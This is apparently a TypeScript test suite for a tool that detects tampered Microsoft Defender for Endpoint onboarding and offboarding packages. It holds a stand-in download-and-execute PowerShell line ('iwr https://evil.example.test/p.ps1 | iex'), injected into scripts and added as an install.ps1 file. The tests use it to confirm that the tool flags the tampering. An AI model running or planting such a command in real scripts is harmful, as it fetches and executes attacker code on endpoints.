/**
 * Issue 15, item 5: only the blob is signed, the carrier is what endpoints run. A carrier with a
 * line that is not part of its layout (ours or Microsoft's) is PACKAGE_TAMPERED (exit 7), naming
 * the file and the line number, never the line itself.
 */
import {mkdtempSync, rmSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import type {Backend} from '../../../src/core/port/types.js'
import {generatePackage} from '../../../src/core/package/generate.js'
import {assertUsable, inspectPackage, type PackageInspection} from '../../../src/core/package/inspect.js'
import {PACKAGE_KINDS, PACKAGE_OSES, type PackageMethod, type PackageOs, validMethods} from '../../../src/core/package/layout.js'
import {compareWithLayouts, describeLines} from '../../../src/core/package/structure.js'
import {openZipReader} from '../../../src/lib/zip-reader.js'
import {buildZip} from '../../../src/lib/zip-writer.js'
import {tempBackend} from '../../helpers/backend.js'
import {fillTemplate, microsoftLikeChain, offboardingBody, onboardingBody, signedEnvelope} from './fixtures.js'
import {pyZip} from './zip-tools.js'
import {requireTool} from '../../helpers/tools.js'

const withPython3 = requireTool('python3')

let backend: Backend
let cleanup: () => Promise<void>
let dir: string
let tenant: {orgId: string; certificateSha256: string}
const NOW = new Date('2026-03-01T12:00:00Z')
const INJECTED = 'powershell -NoProfile -Command "iwr https://evil.example.test/p.ps1 | iex"'

beforeAll(async () => {
  ;({backend, cleanup} = await tempBackend({withTenant: true}))
  tenant = (await backend.tenant.get())!
  dir = mkdtempSync(join(tmpdir(), 'atpctl-structure-'))
})
afterAll(async () => {
  await cleanup()
  rmSync(dir, {recursive: true, force: true})
})

const msOptions = () => ({now: new Date('2026-03-01T00:00:00Z'), trustedRoots: [{sha256: microsoftLikeChain().rootSha256}]})

/** Inserts a line after line `after` (1-based), keeping the file's line endings. */
function inject(text: string, after: number, line = INJECTED): string {
  const eol = text.includes('\r\n') ? '\r\n' : '\n'
  const lines = text.split(eol)
  lines.splice(after, 0, line)
  return lines.join(eol)
}

async function entriesOf(zip: string): Promise<{name: string; data: Buffer}[]> {
  const reader = await openZipReader(zip)
  try {
    const out = []
    for (const e of reader.entries) out.push({name: e.name, data: await reader.readEntry(e, 1 << 20)})
    return out
  } finally {
    await reader.close()
  }
}

function tamperProblems(i: PackageInspection) {
  return i.problems.filter((p) => p.code === 'PACKAGE_TAMPERED')
}

describe('the issue: an altered Microsoft local onboarding script with the signed blob untouched', () => {
  it('is PACKAGE_TAMPERED (exit 7), naming the file and the line, not the line or the blob', async () => {
    const envelope = signedEnvelope(onboardingBody())
    const script = inject(fillTemplate('WindowsDefenderATPLocalOnboardingScript.cmd.tmpl', envelope), 12)
    const path = join(dir, 'WindowsDefenderATPLocalOnboardingScript.cmd')
    writeFileSync(path, script)
    const i = await inspectPackage(path, msOptions())
    // The signatures are fine: the blob was not touched.
    expect(i.signatures).toMatchObject({sha1Valid: true, sha256Valid: true, chainValid: true})
    expect(i.signer.kind).toBe('microsoft')
    expect(i.usable).toBe(false)
    expect(i.structure).toEqual([{path: 'WindowsDefenderATPLocalOnboardingScript.cmd', layout: 'microsoft', unexpectedLines: [13], missingLines: 0}])
    let thrown: any
    try {
      assertUsable(i)
    } catch (error) {
      thrown = error
    }

    expect(thrown).toMatchObject({exitCode: 7, code: 'PACKAGE_TAMPERED'})
    expect(thrown.message).toMatch(/'WindowsDefenderATPLocalOnboardingScript\.cmd' .*line 13 is not part of it/)
    expect(thrown.message).not.toContain('iex')
    expect(thrown.message).not.toContain(JSON.parse(envelope).sig.slice(0, 40))
  })

  it('the same script unaltered is usable; a deleted line is reported as missing', async () => {
    const text = fillTemplate('WindowsDefenderATPLocalOnboardingScript.cmd.tmpl', signedEnvelope(onboardingBody()))
    writeFileSync(join(dir, 'ok.cmd'), text)
    expect((await inspectPackage(join(dir, 'ok.cmd'), msOptions())).problems).toEqual([])
    const lines = text.split('\r\n')
    const at = lines.indexOf('net session >NUL 2>&1')
    expect(at).toBeGreaterThan(0)
    lines.splice(at, 1)
    writeFileSync(join(dir, 'cut.cmd'), lines.join('\r\n'))
    const cut = await inspectPackage(join(dir, 'cut.cmd'), msOptions())
    expect(cut.structure[0]).toMatchObject({unexpectedLines: [], missingLines: 1})
    expect(tamperProblems(cut)[0].message).toMatch(/1 of its line\(s\) are missing/)
  })
})

describe.each([
  ['WindowsDefenderATPOnboardingScript.cmd.tmpl', 'WindowsDefenderATPOnboardingScript.cmd', 'onboarding', 5],
  ['WindowsDefenderATPOffboardingScript.cmd.tmpl', 'WindowsDefenderATPOffboardingScript_valid_until_2026-03-08.cmd', 'offboarding', 7],
  ['MicrosoftDefenderATPOnboardingLinuxServer.py.tmpl', 'MicrosoftDefenderATPOnboardingLinuxServer.py', 'onboarding', 12],
  ['MicrosoftDefenderATPOnboardingLinuxServer.sh.tmpl', 'MicrosoftDefenderATPOnboardingLinuxServer.sh', 'onboarding', 12],
  ['WindowsDefenderATPOnboarding.plist.tmpl', 'WindowsDefenderATPOnboarding.plist', 'onboarding', 4],
  ['WindowsDefenderATPOnboarding.xml.tmpl', 'WindowsDefenderATPOnboarding.xml', 'onboarding', 6],
])('Microsoft layout %s', (template, name, kind, after) => {
  const envelope = () => signedEnvelope(kind === 'onboarding' ? onboardingBody() : offboardingBody(new Date('2026-03-08T17:35:00Z')))

  it('as is: matches the Microsoft layout, no problem', async () => {
    writeFileSync(join(dir, name), fillTemplate(template, envelope()))
    const i = await inspectPackage(join(dir, name), msOptions())
    expect(i.structure).toEqual([{path: name, layout: 'microsoft', unexpectedLines: [], missingLines: 0}])
    expect(i.problems).toEqual([])
  })

  it(`with a line injected after line ${after}: PACKAGE_TAMPERED at line ${after + 1}`, async () => {
    writeFileSync(join(dir, name), inject(fillTemplate(template, envelope()), after))
    const i = await inspectPackage(join(dir, name), msOptions())
    expect(i.signatures).toMatchObject({sha1Valid: true, sha256Valid: true})
    expect(i.structure[0]).toMatchObject({path: name, unexpectedLines: [after + 1]})
    expect(tamperProblems(i)).toHaveLength(1)
    expect(() => assertUsable(i)).toThrow(expect.objectContaining({exitCode: 7, code: 'PACKAGE_TAMPERED'}))
  })
})

const combos = PACKAGE_KINDS.flatMap((kind) =>
  PACKAGE_OSES.filter((os) => os !== 'down-level').flatMap((os) => validMethods(kind, os).map((method) => ({kind, os, method}))),
)

describe.each(combos)('generated $kind $os $method', ({kind, os, method}) => {
  it('every file matches the atpctl layout; each file with an injected line is PACKAGE_TAMPERED naming it', async () => {
    const out = join(dir, `${kind}-${os}-${method}.zip`)
    await generatePackage(backend, {kind, os: os as PackageOs, method: method as PackageMethod, directory: dir, out, profile: 'test', now: NOW})
    const clean = await inspectPackage(out, {tenant, now: NOW})
    expect(clean.problems).toEqual([])
    const files = await entriesOf(out)
    expect(clean.structure.map((s) => s.path).sort()).toEqual(files.map((f) => f.name.replace(/\\/g, '/')).sort())
    expect(clean.structure.every((s) => s.layout === 'atpctl')).toBe(true)
    for (const file of files) {
      // The .onboarding/.offboarding blob is one JSON line: an added line makes it unparseable (malformed, also exit 7).
      if (/\.(onboarding|offboarding)$/.test(file.name)) continue
      const altered = files.map((f) => (f === file ? {name: f.name, data: Buffer.from(inject(f.data.toString('utf8'), 2))} : f))
      const bad = join(dir, 'altered.zip')
      writeFileSync(bad, buildZip(altered))
      const i = await inspectPackage(bad, {tenant, now: NOW})
      expect(i.signer.kind).toBe('tenant')
      const name = file.name.replace(/\\/g, '/')
      expect(i.structure.find((s) => s.path === name)).toMatchObject({layout: 'atpctl', unexpectedLines: [3]})
      expect(tamperProblems(i).map((p) => p.message)).toEqual([expect.stringContaining(`'${name}'`)])
      expect(() => assertUsable(i, {kind, requireTenant: true})).toThrow(expect.objectContaining({exitCode: 7, code: 'PACKAGE_TAMPERED'}))
    }
  })
})

describe('files that are in no layout', () => {
  withPython3.it('an extra script in a package zip is PACKAGE_TAMPERED; a non-deployable extra file (a log) is not', async () => {
    const envelope = signedEnvelope(onboardingBody())
    const cmd = fillTemplate('WindowsDefenderATPOnboardingScript.cmd.tmpl', envelope)
    const evil = pyZip(join(dir, 'extra.zip'), [
      {name: 'WindowsDefenderATPOnboardingScript.cmd', data: cmd},
      {name: 'install.ps1', data: 'iwr https://evil.example.test/p.ps1 | iex'},
    ])
    const i = await inspectPackage(evil, msOptions())
    expect(tamperProblems(i).map((p) => p.message)).toEqual([expect.stringMatching(/'install\.ps1' is not part of any package layout/)])
    const logs = pyZip(join(dir, 'logs.zip'), [
      {name: 'WindowsDefenderATPOnboardingScript.cmd', data: cmd},
      {name: 'logs/sensor.log', data: 'text'},
    ])
    expect((await inspectPackage(logs, msOptions())).problems).toEqual([])
  })

  withPython3.it('a Microsoft GP zip: ADMX/ADML whose portal text the project does not hold are listed as not checked, not refused', async () => {
    const zip = pyZip(join(dir, 'gp.zip'), [
      {name: 'OptionalParamsPolicy/AtpConfiguration.admx', data: '<policyDefinitions/>'},
      {name: 'OptionalParamsPolicy/AtpConfiguration.adml', data: '<policyDefinitionResources/>'},
      {name: 'WindowsDefenderATPOnboardingScript.cmd', data: fillTemplate('WindowsDefenderATPOnboardingScript.cmd.tmpl', signedEnvelope(onboardingBody()))},
    ])
    const i = await inspectPackage(zip, msOptions())
    expect(i.problems).toEqual([])
    expect(i.structure.filter((s) => s.layout === null).map((s) => s.path).sort()).toEqual(['OptionalParamsPolicy/AtpConfiguration.adml', 'OptionalParamsPolicy/AtpConfiguration.admx'])
  })
})

describe('the comparison', () => {
  it('ignores line endings, trailing blanks and blank lines; names lines by number only', () => {
    const layout = [{family: 'atpctl' as const, text: 'a\nb\nc\n'}]
    expect(compareWithLayouts('f', 'a\r\n\r\nb  \r\nc', layout)).toEqual({path: 'f', layout: 'atpctl', unexpectedLines: [], missingLines: 0})
    expect(compareWithLayouts('f', 'a\nx\nb\ny\nc\nz', layout).unexpectedLines).toEqual([2, 4, 6])
    const reordered = compareWithLayouts('f', 'c\nb\na', layout)
    expect(reordered.unexpectedLines).toHaveLength(2)
    expect(reordered.missingLines).toBe(2)
    expect(describeLines([3])).toBe('line 3')
    expect(describeLines([3, 4, 9])).toBe('lines 3, 4 and 9')
    expect(describeLines([1, 2, 3, 4, 5, 6, 7])).toBe('lines 1, 2, 3, 4, 5 and 2 more')
  })
})
